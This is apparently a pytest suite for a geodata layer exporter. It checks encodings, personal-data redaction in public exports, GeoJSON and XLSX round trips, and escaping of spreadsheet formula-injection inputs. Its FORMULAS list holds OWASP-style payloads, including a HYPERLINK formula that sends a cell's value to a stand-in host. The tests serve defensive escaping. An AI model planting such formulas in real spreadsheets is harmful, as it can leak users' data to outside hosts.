"""Export a layer: GeoJSON, CSV (UTF-8 with BOM or GBK), XLSX; public exports hold no personal data."""

import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from geodata.export import ExportError, export_layer
from geodata.importing import plan_import, read_source
from geodata.stores import GeoPackageStore

PERSONAL = ("head_name", "phone", "note")


@pytest.fixture
def dataset(sample_copy):
    return GeoPackageStore(sample_copy).read_all()


def test_csv_is_utf8_with_bom_and_has_coordinates(dataset, tmp_path):
    path = tmp_path / "households.csv"
    assert export_layer(dataset, "households", path, audience="internal") == 50
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    assert {"longitude", "latitude", "id", "village"} <= set(frame.columns)
    first = dataset.households.iloc[0]
    assert float(frame.loc[0, "longitude"]) == pytest.approx(first.geometry.x, abs=1e-7)


def test_public_household_export_has_no_home_locations(dataset, tmp_path):
    for suffix in (".csv", ".geojson"):
        path = tmp_path / f"households{suffix}"
        assert export_layer(dataset, "households", path) == 50
        text = path.read_text(encoding="utf-8-sig")
        first = dataset.households.iloc[0].geometry
        assert f"{first.x:.5f}" not in text and "longitude" not in text
        assert "village" in text
    document = json.loads((tmp_path / "households.geojson").read_text(encoding="utf-8"))
    assert all(feature["geometry"] is None for feature in document["features"])
    checkpoints = tmp_path / "checkpoints.csv"
    export_layer(dataset, "checkpoints", checkpoints)
    assert "longitude" in checkpoints.read_text(encoding="utf-8-sig")


def test_gbk_csv_opens_as_gbk(dataset, tmp_path):
    path = tmp_path / "villages.csv"
    export_layer(dataset, "villages", path, encoding="gbk")
    text = path.read_bytes().decode("gbk")
    assert "关王庙村" in text and "wkt" in text.splitlines()[0]


def test_internal_exports_keep_personal_fields_public_ones_never(dataset, tmp_path):
    for audience in ("public", "internal"):
        for suffix in (".csv", ".xlsx", ".geojson"):
            path = tmp_path / f"{audience}{suffix}"
            export_layer(dataset, "households", path, audience=audience)
            if suffix == ".xlsx":
                header = [c.value for c in next(load_workbook(path).active.iter_rows(max_row=1))]
                content = str(header) + str([c.value for c in next(load_workbook(path).active.iter_rows(min_row=2))])
            elif suffix == ".geojson":
                content = path.read_text(encoding="utf-8")
                header = list(json.loads(content)["features"][0]["properties"])
            else:
                content = path.read_text(encoding="utf-8-sig")
                header = content.splitlines()[0].split(",")
            has_personal = bool(set(PERSONAL) & set(header)) or "示例户主" in content
            assert has_personal == (audience == "internal"), (audience, suffix)


def test_geojson_is_wgs84_feature_collection_that_imports_back(dataset, tmp_path):
    path = tmp_path / "checkpoints.geojson"
    export_layer(dataset, "checkpoints", path)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["type"] == "FeatureCollection" and len(document["features"]) == 29
    assert "crs" not in document
    plan = plan_import(read_source(path), dataset, "checkpoints", mode="replace")
    assert not plan.errors, [str(p) for p in plan.problems]
    back = plan.result.set_index("id").sort_index()
    original = dataset.checkpoints.set_index("id").sort_index()
    assert list(back["tier"]) == list(original["tier"])
    assert list(back["opened"]) == list(original["opened"])


def test_xlsx_round_trip_of_a_table(dataset, tmp_path):
    path = tmp_path / "supplies.xlsx"
    count = export_layer(dataset, "supplies", path)
    plan = plan_import(read_source(path), dataset, "supplies", mode="replace")
    assert not plan.errors and len(plan.result) == count


@pytest.mark.parametrize(
    "name, options, message",
    [
        ("x.kml", {}, "export to .csv, .xlsx, .geojson, .gpkg or .shp"),
        ("x.csv", {"form": "pretty"}, "unknown form"),
        ("x.csv", {"audience": "everyone"}, "unknown audience"),
        ("x.csv", {"encoding": "latin-1"}, "unknown encoding"),
    ],
)
def test_bad_requests_say_what_to_do(dataset, tmp_path, name, options, message):
    with pytest.raises(ExportError, match=message):
        export_layer(dataset, "villages", tmp_path / name, **options)
    assert not (tmp_path / name).exists()


# Texts a spreadsheet would run as formulas (OWASP's list), and one already starting with a quote.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&B2,"详情")',
    "+86 139",
    "-2+3 户",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    "'=1+2",
]


def _planted(dataset):
    """Every text field (ids, codes and choices aside) of every layer holding a formula text,
    cycling through FORMULAS row by row; households' persons negative, to stay a number."""
    from geodata.schema import SCHEMAS

    for name, schema in SCHEMAS.items():
        frame = dataset[name].copy()
        texts = [
            f.name
            for f in schema.fields
            if f.type == "str"
            and not f.choices
            and f.name != schema.id_field
            and f.name not in (schema.village_field, "code", "scope")
        ]
        for column in texts:
            frame[column] = [FORMULAS[i % len(FORMULAS)] for i in range(len(frame))]
        dataset[name] = frame
    dataset["households"] = dataset.households.assign(persons=-3)
    return dataset


def _planted_cells(dataset, layer):
    from geodata.schema import schema_for

    schema = schema_for(layer)
    return sum(1 for f in schema.fields if dataset[layer][f.name].isin(FORMULAS).any())


@pytest.mark.parametrize("audience", ["public", "internal"])
def test_no_exported_spreadsheet_cell_is_a_formula(dataset, tmp_path, audience):
    import csv

    from geodata.schema import SCHEMAS

    dataset = _planted(dataset)
    for layer in SCHEMAS:
        if not _planted_cells(dataset, layer) or len(dataset[layer]) == 0:
            continue
        xlsx, text = tmp_path / f"{layer}.xlsx", tmp_path / f"{layer}.csv"
        export_layer(dataset, layer, xlsx, audience=audience)
        export_layer(dataset, layer, text, audience=audience)
        sheet = load_workbook(xlsx).active
        header = [c.value for c in sheet[1]]
        with text.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        assert rows[0] == header
        seen = 0
        for row, (cells, line) in enumerate(zip(sheet.iter_rows(min_row=2), rows[1:], strict=False)):
            for cell, written in zip(cells, line, strict=False):
                assert cell.data_type != "f", (layer, cell.coordinate, cell.value)
                if header[cell.column - 1] == "persons":
                    assert cell.data_type == "n" and cell.value == -3 and written == "-3"
                original = (
                    dataset[layer][header[cell.column - 1]].iat[row]
                    if header[cell.column - 1] in dataset[layer]
                    else None
                )
                if original in FORMULAS:
                    seen += 1
                    # A carriage return is kept (escaped as _x000D_) or read back by XML as a
                    # line feed, as the writer stores it: either way still no formula.
                    shown = {"'" + original, "'" + original.replace("\r", "\n")}
                    assert cell.data_type == "s" and cell.value in shown, (layer, cell.coordinate)
                    assert written == "'" + original, (layer, row, written)
                else:
                    assert not str(written).startswith(("=", "+", "@", "\t", "\r")), (layer, written)
        planted_here = [name for name in header if name in dataset[layer] and dataset[layer][name].isin(FORMULAS).any()]
        assert seen or not planted_here, layer  # public households: every text is personal, none written


def test_an_exported_file_imports_back_with_the_texts_as_they_were(dataset, tmp_path):
    dataset = _planted(dataset)
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"checkpoints{suffix}"
        export_layer(dataset, "checkpoints", path)
        plan = plan_import(read_source(path), dataset, "checkpoints", mode="replace")
        assert not plan.errors, [str(p) for p in plan.errors]
        back = plan.result.set_index("id").sort_index()
        original = dataset.checkpoints.set_index("id").sort_index()
        # The importer trims a cell's surrounding blanks, as it always has.
        assert list(back["name"]) == [text.strip() for text in original["name"]], suffix
        assert list(back["note"]) == [text.strip() for text in original["note"]], suffix
